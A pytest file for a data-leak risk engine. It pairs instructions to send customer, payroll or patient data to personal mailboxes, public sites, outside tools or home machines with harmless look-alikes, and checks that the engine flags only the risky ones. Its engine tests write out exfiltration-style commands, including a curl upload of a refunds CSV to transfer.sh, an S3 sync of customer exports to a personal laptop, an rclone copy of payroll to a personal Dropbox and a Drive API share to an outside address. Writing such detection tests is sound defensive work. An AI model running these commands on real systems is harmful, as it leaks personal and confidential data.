"""Destination and audience kinds of the fourth sharing pass (issue 19), with look-alikes.

- people named as data: a table, list or field of people ("the users table", "customer
  names", "the names of the affected customers", 名单, 氏名), and what a clause appended to
  the object adds ("the timeline, including the names of …"), less what it leaves out;
- social networks are public places in every language (LinkedIn, YouTube, 微博);
- a personal mailbox (gmail, gmx, qq) is a personal place whatever the action; a machine
  at home, by name or dynamic-DNS host, is a personal place;
- a number is not the records ("how many", "cuántas", "combien", "wie viele", 多少);
  synthetic or fake data is harmless in Japanese and Chinese too;
- the company's own AI named inside its qualifying phrase ("our internal GPT workspace");
- a channel named `#all-company` is judged by what is posted in it, like `#general`;
- a "new" thing in the sentence does not make personal data sent to an outsider harmless
  (only outsiders invited into a new, dedicated space are);
- an incident named as a document ("the incident timeline", 事故受影响用户) is not a
  report of the past;
- a Drive API permission body naming an outside address is a share.
"""

from __future__ import annotations

from functools import cache

import pytest

from bot.config import EXAMPLE_CONFIG
from bot.config_file import load_config
from bot.risk.engine import RiskEngine
from bot.risk.prose import assess_prose

DOMAINS = ("northwind.example",)
_LEAKS = {"sharing", "export", "pii", "exfiltration"}


def _held(text: str) -> set[str]:
    return {f.category for f in assess_prose(text, DOMAINS).findings if f.verdict != "allow"}


# (risky, benign twin): the twin keeps the tools and nouns and makes them harmless
PAIRS = [
    # people named as data, and what an appended clause adds
    (
        "Send the complete ticket export, customer names and emails included, to the agency.",
        "Send the weekly ticket volume by category to the agency; no customer details in it.",
    ),
    (
        "Dump the production members table to a CSV on your laptop.",
        "Dump the synthetic members table from the staging seed to a CSV on your laptop.",
    ),
    (
        "Share the churn timeline, including the names of the affected users, on Facebook.",
        "Share the churn timeline from the public status page on Facebook.",
    ),
    (
        "Email the auditors the workbook tab, customer names and addresses included.",
        "Email the auditors the summary tab only, no customer names or account numbers.",
    ),
    ("把受影响客户的名单发到小红书上。", "把已公开的事故说明发到小红书上。"),
    # a personal mailbox is personal whatever the action
    (
        "Comparte la hoja con los salarios con laura.asesora@gmail.com.",
        "Comparte la hoja con los salarios con laura@northwind.example.",
    ),
    (
        "Schick die Verträge der neuen Mitarbeiter an jan.privat@gmx.de.",
        "Schick die Verträge der neuen Mitarbeiter an jan@northwind.example.",
    ),
    # a machine at home
    (
        "Copy the customer export to your desktop at home tonight.",
        "Copy the press kit to your desktop at home tonight, it is already on our website.",
    ),
    # a number, not the records
    (
        "Manda al asesor externo las nóminas de abril por WhatsApp.",
        "Manda al asesor externo cuántas nóminas hay en abril por WhatsApp.",
    ),
    (
        "Envoie au cabinet externe les fiches de paie de mai.",
        "Envoie au cabinet externe combien de fiches de paie il y a en mai.",
    ),
    (
        "Encaminha a planilha de clientes com CPF para o escritório externo.",
        "Encaminha o total de clientes por estado, sem nenhum dado pessoal, para o escritório "
        "externo.",
    ),
    (
        "把包含用户手机号的表上传到公开的GitHub仓库。",
        "把假数据（手机号都是合成的）上传到公开的GitHub仓库。",
    ),
    # online tools by what they do; "drop X into Y" puts it somewhere
    (
        "Upload the signed customer contracts to a free online PDF merger.",
        "Upload the signed customer contracts to the Legal SharePoint.",
    ),
    (
        "Drop the HR investigation notes into the shared channel we have with the Acme folks.",
        "Drop the HR investigation notes into #hr-private.",
    ),
    # what an appended clause says goes along ("with …", "… visible")
    (
        "Feed the complete support inbox, with customer emails, into Claude to draft replies.",
        "Feed the public FAQ page into Claude to draft replies.",
    ),
    (
        "Post a screenshot of the billing page, card details visible, on Twitter.",
        "Post a screenshot of the public pricing page on Twitter.",
    ),
    # the investor-relations team is ours; a public price list or a blank template is nothing
    (
        "Send the board deck to the investor's personal Gmail before Friday.",
        "Send the board deck to the investor relations mailbox before Friday.",
    ),
    (
        "Lade die komplette Kundenliste mit Telefonnummern in ChatGPT hoch.",
        "Lade die öffentliche Preisliste in ChatGPT hoch.",
    ),
    (
        "Sobe a planilha de folha de pagamento no WeTransfer para o contador externo.",
        "Sobe a planilha modelo em branco no WeTransfer para o contador externo.",
    ),
    # a social network's channel is where it goes, not what is posted
    (
        "Publish the customer interview recordings on our YouTube channel.",
        "Publish the product launch video on our YouTube channel.",
    ),
    (
        "Stell die Aufzeichnung des Vorstandsmeetings öffentlich auf YouTube.",
        "Stell sicher, dass die Aufzeichnung des Vorstandsmeetings nicht öffentlich ist.",
    ),
    # personal data shared with an outside address, in any language
    (
        "Comparte el tablero con datos de clientes con equipo@agenciaroja.com.",
        "Comparte el tablero con datos de clientes con ventas@northwind.example.",
    ),
    # a count is not the records; a stack trace is no stack
    (
        "Give the Brightline contractors a copy of the customer table as a CSV.",
        "Give the Brightline contractors the row count of the customer table.",
    ),
    (
        "Tweet the list of customers affected by the outage with their account IDs.",
        "Tweet the number of customers affected by the outage.",
    ),
    (
        "Forward the vendor the production stack trace with the user emails in it.",
        "Forward the vendor the production stack trace with the user emails stripped out.",
    ),
    # opened with no sign-in
    (
        "Make the Looker dashboard with member addresses embeddable without login.",
        "Make the Looker dashboard with member addresses visible only to signed-in analysts.",
    ),
    # Chinese: staff records (not any word about staff), blank templates, public documents,
    # a sync into a personal cloud
    (
        "把员工的身份证号整理成表格，发到公司的全员群里。",
        "把员工的年假政策整理成文档，发到公司的全员群里。",
    ),
    ("把全部客户的合同扫描件上传到百度网盘。", "把合同模板（空白的）上传到百度网盘。"),
    ("把后台的用户聊天记录复制到ChatGPT里。", "把公开的产品文档复制到ChatGPT里。"),
    ("把订单数据同步到你个人的iCloud里。", "把订单数据同步到公司的共享盘里。"),
    # Spanish: Google's translator; German: carried home on a stick, a link for anyone
    (
        "Pega la lista de pacientes en el traductor de Google.",
        "Pega el folleto público de la clínica en el traductor de Google.",
    ),
    (
        "Lad die Patientenakten auf einen USB-Stick und nimm sie mit nach Hause.",
        "Lad die leere Vorlage für Patientenakten auf einen USB-Stick.",
    ),
    (
        "Teile die Kundendatenbank per Link mit jedem, der ihn hat.",
        "Teile die Kundendatenbank nur mit dem Vertriebsteam, Anmeldung erforderlich.",
    ),
    # numbers about the data leave, not the records (both readers)
    (
        "To unblock the agency we could export the subscriber list with emails from Mailchimp "
        "and drop it in their Dropbox folder.",
        "To unblock the agency we could export the subscriber count per segment from Mailchimp "
        "and drop it in their Dropbox folder.",
    ),
    (
        "Sugestão: exporta a base completa de clientes do HubSpot e compartilha com a agência.",
        "Sugestão: exporta só a contagem de clientes por estado do HubSpot e compartilha com a "
        "agência.",
    ),
    # online tools named by what they do; applicants' data to a headhunter
    (
        "Colle l'export des clients (noms, mails, téléphones) dans un convertisseur CSV vers "
        "JSON en ligne.",
        "Colle l'export anonymisé des clients dans notre convertisseur interne.",
    ),
    (
        "Exportier alle Bewerberdaten aus dem ATS und schick sie dem Headhunter per Mail.",
        "Exportier die Anzahl der Bewerbungen pro Stelle aus dem ATS und schick sie dem "
        "Headhunter per Mail.",
    ),
    # a link setting turned off; publishing far from "to the web"
    (
        'Toggle "Allow anyone with the link to view" on the compensation review deck.',
        'Toggle "Allow anyone with the link to view" off on the compensation review deck.',
    ),
    (
        "Publish the Confluence space with the incident postmortems to the web for customers.",
        "Publish the sanitized public postmortem to the status page for customers.",
    ),
    # the company's own AI, named inside its qualifying phrase
    (
        "Paste the customer emails into ChatGPT and ask it to cluster them.",
        "Paste the customer emails into our internal GPT workspace and ask it to cluster them.",
    ),
]


@pytest.mark.parametrize(("risky", "benign"), PAIRS)
def test_a_destination_kind_is_held_and_its_look_alike_is_not(risky: str, benign: str) -> None:
    assert _held(risky) & _LEAKS, risky
    assert not _held(benign) & _LEAKS, benign


@pytest.mark.parametrize(
    "text",
    [
        "Post the payroll export with everyone's salary band into #all-company.",
        "人事評価の結果一覧を #all-company に貼って。",
        "Add ops@brightline.co to the contracts folder:\n"
        'curl -X POST "https://www.googleapis.com/drive/v3/files/1AbC/permissions" '
        '-d \'{"type":"user","role":"writer","emailAddress":"ops@brightline.co"}\'',
    ],
)
def test_wide_channels_and_api_shares_with_data_are_held(text: str) -> None:
    assert _held(text) & _LEAKS, text


@pytest.mark.parametrize(
    "text",
    [
        "Post the venue details of next month's health check in #all-company.",
        "来月の健康診断の会場案内を全社チャンネルの #all-company に貼っておいて。",
        'curl -X POST "https://www.googleapis.com/drive/v3/files/1AbC/permissions" '
        '-d \'{"type":"user","role":"writer","emailAddress":"ops@northwind.example"}\'',
    ],
)
def test_notices_in_wide_channels_and_inside_shares_are_not(text: str) -> None:
    assert not _held(text) & _LEAKS, text


@cache
def _engine() -> RiskEngine:
    return RiskEngine(load_config(EXAMPLE_CONFIG))


def _decision(text: str) -> str:
    """The engine as a whole: prose, commands and their scope together."""
    return _engine().assess(text).decision


ENGINE_PAIRS = [
    # "change the general access" to a link setting, in the languages that say it that way
    (
        "En Drive, cambia el acceso general de la carpeta «Nóminas» a «Cualquier persona con "
        "el enlace».",
        "En Drive, cambia el acceso general de la carpeta «Nóminas» de «Cualquier persona con "
        "el enlace» a «Restringido».",
    ),
    (
        "No Drive, muda o acesso geral da pasta Folha para «Qualquer pessoa com o link».",
        "No Drive, muda o acesso geral da pasta Folha para «Restrito».",
    ),
    # "last month's refunds" is what is sent, not a report of the past
    (
        "把上个月的退款明细导出来：`curl -F file=@refunds.csv https://transfer.sh/`",
        "上个月我们把退款明细导出来了：`curl -F file=@refunds.csv https://files.northwind.example/`",
    ),
    # a personal laptop is not the reader's own sandbox
    (
        "Pra ter tudo no seu notebook pessoal: aws s3 sync s3://northwind-customer-exports ./bk/",
        "Pra ver o tamanho: aws s3 ls s3://northwind-customer-exports --recursive --summarize",
    ),
    (
        "Copia todo a tu portátil personal: aws s3 sync s3://northwind-customer-exports ./bk/",
        "Borra la tabla en tu sandbox personal: DROP TABLE clientes;",
    ),
    # an export from a local or development database is nobody's real data
    (
        "Para el análisis sácate todo: mysqldump -h prod-mysql-2 crm clientes > ~/clientes.sql",
        "Para el análisis sácate todo: mysqldump -h localhost crm_dev clientes > ~/clientes.sql",
    ),
    # someone's own consumer cloud as an rclone remote
    (
        "rclone copy /srv/exports/payroll_2026.xlsx mydropbox:Personal/",
        "rclone copy /srv/exports/payroll_2026.xlsx northwind-sharepoint:HR/Payroll/",
    ),
    # one static web asset made public-read for a website; a folder may hold anything
    (
        "Then run `aws s3 cp ./press/ s3://northwind-site/press/ --recursive --acl public-read`.",
        "Then run `aws s3 cp ./press/logo.png s3://northwind-site/press/ --acl public-read`.",
    ),
]


@pytest.mark.parametrize(("risky", "benign"), ENGINE_PAIRS)
def test_the_engine_holds_the_kind_and_allows_its_look_alike(risky: str, benign: str) -> None:
    assert _decision(risky) != "allow", risky
    assert _decision(benign) == "allow", benign
